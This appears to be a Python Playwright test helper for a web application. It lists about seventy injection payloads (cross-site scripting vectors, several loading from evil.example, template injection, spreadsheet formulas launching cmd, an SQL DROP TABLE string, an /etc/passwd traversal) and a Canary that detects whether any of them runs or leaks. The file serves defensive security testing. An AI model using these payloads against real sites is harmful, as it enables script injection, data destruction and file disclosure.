"""Texts that somebody could write wherever text is kept, in the hope that a page runs them or asks another server.

Whatever succeeds calls `__ran` or asks `evil.example`; a `Canary` hears of both, and of whatever the browser refused.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass, field
from typing import Any

from playwright.sync_api import BrowserContext, ConsoleMessage, Dialog, Page, Request

EVIL = "https://evil.example"
PAYLOADS = {
    "script": "<script>__ran(1)</script>",
    "script from elsewhere": f'<script src="{EVIL}/a.js"></script>',
    "broken script": "<scr<script>ipt>__ran(3)</scr</script>ipt>",
    "end of a script": "</script><script>__ran(4)</script>",
    "end of data": '</script><img src=x onerror="__ran(5)">{"a":"',
    "commented data": "<!--<script>__ran(6)",
    "image": "<img src=x onerror=__ran(7)>",
    "image from elsewhere": f'<img src="{EVIL}/b.png">',
    "image without an end": "<img src=x onerror=__ran(9)//",
    "out of an attribute": '" onmouseover="__ran(10)" x="',
    "out of single quotes": "' onfocus='__ran(11)' autofocus x='",
    "out of a tag": '"><svg onload=__ran(12)>',
    "svg": "<svg/onload=__ran(13)>",
    "svg script": "<svg><script>__ran(14)</script></svg>",
    "svg animation": "<svg><animate onbegin=__ran(15) attributeName=x dur=1s>",
    "svg use": f'<svg><use href="{EVIL}/c.svg#d"/></svg>',
    "svg by data": '<svg><use href="data:image/svg+xml,<svg id=x onload=__ran(17)>#x"/></svg>',
    "math": '<math><a xlink:href="javascript:__ran(18)">m</a></math>',
    "mutation": '<math><mtext><table><mglyph><style><img title="</style><img src=x onerror=__ran(19)>">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=__ran(20)>">',
    "title": '<title><img src="</title><img src=x onerror=__ran(21)>">',
    "textarea": "</textarea><img src=x onerror=__ran(22)>",
    "select": "</option></select><img src=x onerror=__ran(23)>",
    "template": "<template><img src=x onerror=__ran(24)></template>",
    "body": "<body onload=__ran(25)>",
    "details": "<details open ontoggle=__ran(26)>d",
    "video": "<video><source onerror=__ran(27)></video>",
    "input": "<input autofocus onfocus=__ran(28)>",
    "frame": f'<iframe src="{EVIL}/e"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>parent.__ran(30)</script>"></iframe>',
    "frame with an address": "<iframe src=javascript:parent.__ran(31)>",
    "object": '<object data="javascript:__ran(32)"></object>',
    "embed": f'<embed src="{EVIL}/f.swf">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/g">',
    "base": f'<base href="{EVIL}/">',
    "form": f'<form action="{EVIL}/h"><button>Go on</button></form>',
    "form action": '<button formaction="javascript:__ran(37)">x</button>',
    "sheet from elsewhere": f'<link rel=stylesheet href="{EVIL}/i.css">',
    "style": f"<style>@import '{EVIL}/j.css';</style>",
    "css address": f"x;background:url({EVIL}/k.png)",
    "css expression": "</style><p style=width:expression(__ran(41))>",
    "javascript address": "javascript:__ran(42)",
    "hidden javascript address": "java\tscript:__ran(43)",
    "data address": "data:text/html,<script>__ran(44)</script>",
    "template literal": "${__ran(45)}`-__ran(45)-`",
    "constructor": "{{constructor.constructor('__ran(46)')()}}",
    "constructor of an array": "{{[].at.constructor('__ran(47)')()}}",
    "Alpine": "<p x-data x-init=\"__ran(48)\" @click='__ran(48)'>",
    "out of an Alpine string": "'}); __ran(49); ({a: '",
    "Django": "{% load static %}{{ request.user.password }}{% debug %}",
    "Liquid": "{% assign a = 1 %}{{ a | append: '<script>__ran(51)</script>' }}",
    "Python format": "%(name)s {0.__class__} %s",
    "entities": "&lt;img src=x onerror=__ran(53)&gt; &#60;",
    "escapes": "\\u003cimg src=x onerror=__ran(54)\\u003e",
    "half characters as text": "\\ud83d\\ude00 \\x00 %00 \\0 ␀",
    "bidi": "abc\u202e\u2066gnp.exe\u2069 <img src=x onerror=__ran(56)>",
    "zero width": "<\u200bscript\u200d>__ran(57)</\ufeffscript> a\u00adb",
    "full width": "＜script＞__ran(58)＜/script＞",
    "conditional comment": "<!--[if gte IE 4]><script>__ran(59)</script><![endif]-->",
    "comment": "--><img src=x onerror=__ran(60)><!--",
    "cdata": "<![CDATA[<img src=x onerror=__ran(61)>]]>",
    "instruction": "<?xml-stylesheet href='javascript:__ran(62)'?>",
    "formula": '=HYPERLINK("https://evil.example/l","a")',
    "command": "+cmd|' /C calc'!A1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "proto": "__proto__",
    "constructor as a name": "constructor",
    "to string": "toString",
    "query": "' OR '1'='1'; DROP TABLE person; --",
    "path": "../../../etc/passwd",
    "emoji": "👩‍👩‍👧‍👦 Z͑ͫa̴l͋go é 한국어",
    "long": "<img src=x onerror=__ran(71)>" + "W" * 160,
}
"""Each is different from the others, and begins and ends with a character that is no space."""


def fit(number: int, length: int = 200) -> str:
    """The payload with this number, counted in a circle, in so many characters."""
    texts = list(PAYLOADS.values())
    return texts[number % len(texts)][:length].strip()


_LISTEN = """
    window.__ran = (what) => console.error("ran: " + what);
    document.addEventListener("securitypolicyviolation", (event) =>
        console.error("refused: " + event.violatedDirective + " " + event.blockedURI + " " + event.sample));
"""


@dataclass
class Canary:
    """Sits in a browser and notes what must not happen."""

    context: BrowserContext
    base: str
    noticed: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.context.add_init_script(_LISTEN)
        self.context.on("request", self._asked)
        self.context.on("console", self._said)
        self.context.on("dialog", self._opened)
        self.context.on("page", self._watch)

    def _watch(self, page: Page) -> None:
        self.noticed.append(f"window {page.url}")

    def _asked(self, request: Request) -> None:
        """What is part of the page itself, as `data:` and `blob:` are, leaves nothing."""
        if not request.url.startswith((self.base, "data:", "blob:", "about:")):
            self.noticed.append(f"request {request.url}")

    def _said(self, message: ConsoleMessage) -> None:
        words = message.text
        if words.startswith(("ran:", "refused:")) or "Content Security Policy" in words:
            self.noticed.append(f"{words} at {self.context.pages[0].url}")

    def _opened(self, dialog: Dialog) -> None:
        self.noticed.append(f"dialog {dialog.message}")
        dialog.dismiss()


_LIVELY = """() => {
    const text = /__ran|evil\\.example/;
    const own = (name) => !/^(value|title|alt|placeholder|content|label|aria-|data-)/.test(name);
    const leads = (name) => /^(xlink:)?(href|src|action|formaction|data|poster|background|ping)$/.test(name);
    const away = (value) => {
        try { return new URL(value, location.href).origin !== location.origin; } catch { return true; }
    };
    const found = [];
    for (const element of document.querySelectorAll("*")) {
        for (const { name, value } of element.attributes) {
            const isShown = name === "srcdoc" && element.sandbox.value === "";
            const isPart = own(name) && text.test(value) && (!leads(name) || away(value)) && !isShown;
            if (/__ran|evil/.test(name) || isPart) found.push(`${element.tagName} ${name}=${value.slice(0, 200)}`);
        }
        const runs = element.tagName === "SCRIPT" && !/json/.test(element.type);
        const isCode = runs || element.tagName === "STYLE";
        if (isCode && text.test(element.textContent)) found.push(element.outerHTML.slice(0, 200));
    }
    return found;
}"""


def lively(page: Page) -> list[str]:
    """Attributes, scripts and styles that some payload became part of, though nothing has run yet."""
    found: list[str] = page.evaluate(_LIVELY)
    return found


_WORDS = """(selector) => [...document.querySelectorAll(selector)].flatMap((root) => {
    const values = [...root.querySelectorAll("input, textarea")].map((field) => field.value);
    const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT, (node) =>
        /^(SCRIPT|STYLE|NOSCRIPT)$/.test(node.parentElement.tagName) ? 2 : 1);
    const texts = [];
    while (walker.nextNode()) texts.push(walker.currentNode.data);
    return [texts.join(""), ...values];
}).join("\\n")"""


def unseen(page: Page, *, length: int = 200, selector: str = "body") -> list[str]:
    """Payloads that do not stand on the page as they were written, as text or in a field."""
    words = plain(page.evaluate(_WORDS, selector))
    return [name for name, text in PAYLOADS.items() if plain(text[:length]) not in words]


def plain(text: str) -> str:
    """As the database keeps it, without regard to how a page breaks its lines."""
    return " ".join(unicodedata.normalize("NFC", text).split())


Document = dict[str, Any]
